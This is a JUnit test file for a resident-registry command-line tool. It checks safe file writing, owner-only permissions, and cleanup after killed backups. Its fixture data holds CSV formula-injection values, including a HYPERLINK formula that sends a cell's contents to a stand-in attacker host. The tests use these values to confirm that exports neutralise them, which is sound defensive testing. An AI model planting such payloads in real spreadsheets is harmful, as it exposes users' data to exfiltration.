package org.madoguchi.product.tests;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The files Madoguchi writes, as a batch operator meets them: only regular files or new paths are
 * written (a link, a FIFO, a device is refused by name and left as it was), personal data is its
 * owner's only, exports for Excel carry no live formula, and what a killed run left is removed.
 */
class LauncherFilesTest {

	private static final Charset CP932 = Charset.forName("windows-31j");
	private static final String RESIDENTS = """
			individual_number,family_name,given_name,family_name_kana,given_name_kana,birth_date,sex,postal_code,prefecture,municipality_code,town,address_number,card_serial,card_issued_on,card_status
			123456789018,"=HYPERLINK(""https://evil.example/?""&A1,""受付"")",花子,ヤマダ,ハナコ,1980-10-10,女,1000001,東京都,131016,千代田1丁目,1番1号,AB1234567890,2024-05-15,issued
			023456789013,@SUM(1+1),一郎,サトウ,イチロウ,1985-01-01,男,1000001,東京都,131016,千代田1丁目,1番2号,,,
			621498320257,鈴木,次郎,スズキ,ジロウ,1990-01-01,男,1000001,東京都,131016,千代田1丁目,1番3号,,,
			""";

	@TempDir
	Path folder;

	private String db;

	@BeforeEach
	void register() throws Exception {
		db = folder.resolve("db").toString();
		Launcher.Run init = Launcher.run(folder, "--db", db, "init");
		assertEquals(0, init.exitCode(), init.err());
		Path residents = Files.writeString(folder.resolve("residents.csv"), RESIDENTS, StandardCharsets.UTF_8);
		Launcher.Run imported = Launcher.run(folder, "--db", db, "import", residents.toString());
		assertEquals(0, imported.exitCode(), imported.err());
	}

	private Launcher.Run madoguchi(String... args) throws Exception {
		List<String> all = new ArrayList<>(List.of("--db", db));
		all.addAll(List.of(args));
		return Launcher.run(folder, all.toArray(String[]::new));
	}

	private static String mode(Path file) throws Exception {
		return PosixFilePermissions.toString(Files.getPosixFilePermissions(file, LinkOption.NOFOLLOW_LINKS));
	}

	private static void assertRefused(Launcher.Run run, Path target, String what) {
		assertEquals(1, run.exitCode(), run.err());
		assertEquals("madoguchi: " + target + " is " + what + ": Madoguchi writes only to a regular file or a new path. Nothing was written.\n",
				run.err());
	}

	@Test
	void everyOutputRefusesASymbolicLinkAndLeavesItsTargetAlone() throws Exception {
		Path mine = Files.writeString(folder.resolve("notes.txt"), "my own notes\n");
		Path bad = Files.writeString(folder.resolve("bad.csv"), "individual_number,family_name,given_name,family_name_kana,"
				+ "given_name_kana,birth_date,sex,postal_code,prefecture,municipality_code,town,address_number\n"
				+ "111222333446,高橋,三郎,タカハシ,サブロウ,1970-01-01,男,1000001,東京都,131016,千代田1丁目,1番4号\n"
				+ "123456789010,佐藤,一郎,サトウ,イチロウ,1980-01-01,男,1000001,東京都,131016,千代田1丁目,1番2号\n");
		Map<String, List<String>> commands = Map.of("export.csv", List.of("export", "%s"), "report.xlsx",
				List.of("report", "expiring", "--within", "3650", "--out", "%s"), "cards.pdf",
				List.of("print", "cards", "--ids", "1", "--out", "%s"), "backup.zip", List.of("backup", "--out", "%s"), "rejects.csv",
				List.of("import", bad.toString(), "--rejects", "%s"));
		for (Map.Entry<String, List<String>> command : commands.entrySet()) {
			Path link = Files.createSymbolicLink(folder.resolve(command.getKey()), mine);
			String[] args = command.getValue().stream().map(arg -> arg.replace("%s", link.toString())).toArray(String[]::new);
			assertRefused(madoguchi(args), link, "a symbolic link");
			assertTrue(Files.isSymbolicLink(link), command.getKey());
		}
		assertEquals("my own notes\n", Files.readString(mine));
		assertTrue(madoguchi("search", "タカハシ").out().isEmpty(), "the import was refused before a row was imported");
	}

	@Test
	void aFifoADeviceAndAFolderAreRefusedAndLeftAsTheyWere() throws Exception {
		Path fifo = folder.resolve("export.csv");
		assertEquals(0, new ProcessBuilder("mkfifo", fifo.toString()).start().waitFor());
		assertRefused(madoguchi("export", fifo.toString()), fifo, "a FIFO");
		assertEquals(0010000, (Integer) Files.getAttribute(fifo, "unix:mode", LinkOption.NOFOLLOW_LINKS) & 0170000, "still a FIFO");

		Path device = Path.of("/dev/null");
		assertRefused(madoguchi("backup", "--out", device.toString()), device, "a device");
		assertEquals(0020000, (Integer) Files.getAttribute(device, "unix:mode", LinkOption.NOFOLLOW_LINKS) & 0170000,
				"still a character device");

		Path reports = Files.createDirectory(folder.resolve("reports"));
		assertRefused(madoguchi("report", "renewals-due", "--out", reports.toString()), reports, "a folder");
		assertTrue(Files.isDirectory(reports));
	}

	@Test
	void filesHoldingPersonalDataAreTheOwnersOnly() throws Exception {
		Path register = Path.of(db);
		assertEquals("rwx------", mode(register));
		assertEquals("rw-------", mode(register.resolve("madoguchi.mv.db")));

		Path export = folder.resolve("export.csv");
		assertEquals(0, madoguchi("export", export.toString()).exitCode());
		Path report = folder.resolve("report.xlsx");
		Launcher.Run reported = madoguchi("report", "expiring", "--within", "3650", "--with-number", "--out", report.toString());
		assertEquals(0, reported.exitCode(), reported.err());
		Path cards = folder.resolve("cards.pdf");
		Launcher.Run printed = madoguchi("print", "cards", "--ids", "1", "--out", cards.toString());
		assertEquals(0, printed.exitCode(), printed.err());
		Path backup = folder.resolve("backup.zip");
		assertEquals(0, madoguchi("backup", "--out", backup.toString()).exitCode());
		Path bad = Files.writeString(folder.resolve("bad.csv"), "individual_number,family_name,given_name,family_name_kana,"
				+ "given_name_kana,birth_date,sex,postal_code,prefecture,municipality_code,town,address_number\n"
				+ "123456789010,佐藤,一郎,サトウ,イチロウ,1980-01-01,男,1000001,東京都,131016,千代田1丁目,1番2号\n");
		assertEquals(2, madoguchi("import", bad.toString()).exitCode());
		for (Path file : List.of(export, report, cards, backup, folder.resolve("bad.csv.rejects.csv"))) {
			assertEquals("rw-------", mode(file), file.toString());
		}

		Path office = folder.resolve("office");
		Launcher.Run secure = Launcher.run(folder, Map.of("MADOGUCHI_PASSWORD", "supervisor-pass"), "--db", office.toString(),
				"--operator", "sato", "init", "--secure");
		assertEquals(0, secure.exitCode(), secure.err());
		assertEquals("rwx------", mode(office));
		assertEquals("rw-------", mode(office.resolve("madoguchi.mv.db")));
		assertEquals("rw-------", mode(office.resolve("keys.properties")));
		assertFalse(Files.exists(register.resolve("madoguchi.trace.db")) || Files.exists(office.resolve("madoguchi.trace.db")),
				"no H2 trace beside the database");
	}

	@Test
	void exportsForExcelCarryNoLiveFormulaAndTheRoundTripHolds() throws Exception {
		Path plain = folder.resolve("plain.csv");
		assertEquals(0, madoguchi("export", plain.toString()).exitCode());
		assertTrue(Files.readString(plain).contains(",\"=HYPERLINK("), "utf-8 is written as it is stored");
		for (String encoding : List.of("cp932", "utf-8-bom")) {
			Charset charset = encoding.equals("cp932") ? CP932 : StandardCharsets.UTF_8;
			Path first = folder.resolve(encoding + ".csv");
			Launcher.Run export = madoguchi("export", first.toString(), "--encoding", encoding);
			assertEquals(0, export.exitCode(), export.err());
			String text = Files.readString(first, charset);
			assertTrue(text.contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"受付\"\")\",花子,"), text);
			assertTrue(text.contains(",'@SUM(1+1),一郎,"), text);
			assertFalse(text.matches("(?s).*(^|[,\n])\"?[=+@-].*"), "no field starts a formula: " + text);

			String empty = folder.resolve("empty-" + encoding).toString();
			assertEquals(0, Launcher.run(folder, "--db", empty, "init").exitCode());
			Launcher.Run imported = Launcher.run(folder, "--db", empty, "import", first.toString());
			assertEquals("read: 3, imported: 3, updated: 0, unchanged: 0, rejected: 0\n", imported.out(), imported.err());
			Path second = folder.resolve(encoding + "-again.csv");
			assertEquals(0, Launcher.run(folder, "--db", empty, "export", second.toString(), "--encoding", encoding).exitCode());
			assertEquals(text, Files.readString(second, charset), "the round trip holds");
		}
	}

	@Test
	void whatAKilledBackupOrRestoreLeftIsRemovedByTheNextRun() throws Exception {
		Process killed = new ProcessBuilder("sleep", "60").start();
		killed.destroyForcibly();
		assertTrue(killed.waitFor(10, TimeUnit.SECONDS));
		Process live = new ProcessBuilder("sleep", "60").start();
		try {
			Path halfZip = Files.writeString(folder.resolve(".backup.zip." + killed.pid() + "-123.part"), "half a zip");
			Path beingWritten = Files.writeString(folder.resolve(".backup.zip." + live.pid() + "-456.part"), "a zip being written");
			Path backup = folder.resolve("backup.zip");
			assertEquals(0, madoguchi("backup", "--out", backup.toString()).exitCode());
			assertFalse(Files.exists(halfZip), "the killed backup's draft is removed");
			assertTrue(Files.exists(beingWritten), "a live backup's draft is kept");

			Path copy = Files.createDirectory(folder.resolve("copy"));
			Path halfRestore = Files.createDirectory(copy.resolve(".restoring-" + killed.pid() + "-789"));
			Files.writeString(halfRestore.resolve("madoguchi.mv.db"), "half a database");
			Launcher.Run restore = Launcher.run(folder, "--db", copy.toString(), "restore", backup.toString());
			assertEquals(0, restore.exitCode(), restore.err());
			assertFalse(Files.exists(halfRestore), "the killed restore's scratch folder is removed");
			try (var left = Files.list(copy)) {
				assertTrue(left.noneMatch(file -> file.getFileName().toString().startsWith(".restoring-")), "no scratch is left");
			}
			assertTrue(Launcher.run(folder, "--db", copy.toString(), "stats", "--json").out().contains("\"residents\": 3"));
		} finally {
			live.destroy();
		}
	}
}
